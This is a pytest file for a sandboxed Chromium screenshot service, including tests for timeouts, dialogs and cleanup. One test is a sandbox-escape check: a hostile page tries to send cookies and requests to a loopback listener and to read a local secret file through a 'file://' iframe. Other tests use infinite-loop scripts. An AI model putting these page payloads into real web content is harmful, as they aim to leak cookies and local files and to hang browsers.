"""Pages in a real Chromium: what is seen, and what a hostile page gets done, which is nothing."""

from __future__ import annotations

import asyncio
import base64
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from tests.support.browser import chromium
from tests.support.pictures import pixel, size

from assay.domain.pages import DESKTOP, NARROW, PageAnswer, PageRequest, Shots, Unseen
from assay.sandbox.pages import ChromiumPages, found_chromium

BROWSER = chromium()
real = pytest.mark.skipif(isinstance(BROWSER, str), reason=f"no browser: {BROWSER}")


def shot(html: str, *, limit_s: float = 20.0, views: tuple[object, ...] = (DESKTOP,)) -> PageAnswer:
    pages = ChromiumPages(str(BROWSER))
    return asyncio.run(pages.shoot(PageRequest(html=html, views=views, time_limit_s=limit_s)))  # type: ignore[arg-type]


def pixels(answer: PageAnswer, place: int = 0) -> tuple[tuple[int, int], tuple[int, ...]]:
    """Size of a picture, and the colour of its middle."""
    assert isinstance(answer, Shots), answer
    png = base64.b64decode(answer.images[place].data)
    width, height = size(png)
    return (width, height), pixel(png, width // 2, height // 2)


@contextmanager
def listening() -> Iterator[tuple[int, list[str]]]:
    """A server on loopback that notes what is asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_CONNECT = do_GET  # noqa: N815 # names the server asks for

        def log_message(self, *_: object) -> None:
            return

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_port, asked
    finally:
        server.shutdown()


@pytest.mark.slow
@real
def test_page_pictures_show_scripts_and_media_queries() -> None:
    html = (
        "<style>body{margin:0;background:#ff0000}@media(max-width:500px){body{background:#0000ff}}</style>"
        "<meta name=viewport content='width=device-width'><script>document.title='x'</script>"
    )
    answer = shot(html, views=(DESKTOP, NARROW))
    assert pixels(answer, 0) == ((1280, 800), (255, 0, 0))
    assert pixels(answer, 1) == ((390, 844), (0, 0, 255))


@pytest.mark.slow
@real
def test_page_picture_shows_late_drawing() -> None:
    answer = shot(
        "<body><script>setTimeout(()=>{document.body.style.background='#00ff00'},300)</script>"
    )
    assert pixels(answer)[1] == (0, 255, 0)


@pytest.mark.slow
@real
def test_hostile_page_reaches_no_network_and_no_files(tmp_path: Path) -> None:
    secret = tmp_path / "secret.html"
    secret.write_text("<body style='background:#123456'>")
    with listening() as (port, asked):
        here = f"http://127.0.0.1:{port}"
        answer = shot(
            f"""<body style="background:#ffffff"><img src="{here}/image"><link rel=stylesheet href="{here}/style">
            <script src="{here}/script"></script><iframe src="{here}/frame"></iframe>
            <iframe src="file://{secret}" style="position:fixed;inset:0;width:100%;height:100%;border:0;opacity:.99"></iframe>
            <form id=f action="{here}/form" method=post></form>
            <script>
              fetch("{here}/fetch").catch(()=>0); fetch("http://localhost:{port}/name").catch(()=>0);
              navigator.sendBeacon("{here}/beacon"); try {{ new WebSocket("ws://127.0.0.1:{port}/socket") }} catch (e) {{}}
              try {{ window.open("{here}/popup") }} catch (e) {{}}
              setTimeout(()=>f.submit(), 50); setTimeout(()=>{{ location = "{here}/go?" + document.cookie }}, 100);
              try {{ new RTCPeerConnection({{iceServers:[{{urls:"stun:127.0.0.1:{port}"}}]}}) }} catch (e) {{}}
            </script>"""
        )
    assert asked == []
    assert pixels(answer)[1] != (0x12, 0x34, 0x56)


@pytest.mark.slow
@real
@pytest.mark.parametrize(
    "html",
    ["<script>for(;;){}</script>", "<body><script>setTimeout(()=>{for(;;);},10)</script>"],
    ids=["at once", "later"],
)
def test_a_page_that_never_comes_to_rest_is_ended(html: str) -> None:
    answer = shot(html, limit_s=4.0)
    assert isinstance(answer, Unseen)
    assert "did not finish loading within 4 s" in answer.detail


@pytest.mark.slow
@real
def test_dialogs_hold_nothing_up() -> None:
    assert isinstance(shot("<script>alert(1); confirm(2); prompt(3)</script><p>there"), Shots)


@pytest.mark.slow
@real
def test_nothing_of_a_page_is_left_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    shot("<p>x")
    assert list(tmp_path.iterdir()) == []


def test_without_a_browser_the_answer_says_why() -> None:
    answer = asyncio.run(ChromiumPages(None).shoot(PageRequest(html="<p>x")))
    assert answer == Unseen("The page was not rendered: no Chromium was found on this machine.")


def test_a_program_that_is_no_browser_gives_a_reason_and_no_error() -> None:
    answer = asyncio.run(ChromiumPages("/bin/true").shoot(PageRequest(html="<p>x", time_limit_s=3)))
    assert isinstance(answer, Unseen)
    assert "ended with code 0" in answer.detail


def test_a_browser_that_was_named_and_is_not_there_is_not_replaced() -> None:
    assert found_chromium("/nowhere/chromium") is None
